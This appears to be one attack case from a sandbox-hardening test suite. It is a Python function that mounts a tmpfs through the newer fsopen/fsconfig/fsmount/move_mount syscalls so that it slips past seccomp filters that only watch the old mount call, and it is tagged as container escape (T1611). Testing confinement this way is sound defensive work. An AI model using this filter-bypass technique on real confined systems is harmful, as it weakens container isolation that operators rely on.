"""Mount a file system by fsopen, fsconfig, fsmount and move_mount.

gain: a mount that a filter of the old call does not see
attack: T1611
stopped by: seccomp, capabilities
unconfined: cell
"""

from attacker import call


def attempt(world):
    context = call("fsopen", b"tmpfs", 1)
    call("fsconfig", context, 6, 0, 0, 0)
    mount = call("fsmount", context, 1, 0)
    call("move_mount", mount, b"", -100, world["work"].encode(), 4)
    return "mounted a tmpfs by the new calls"
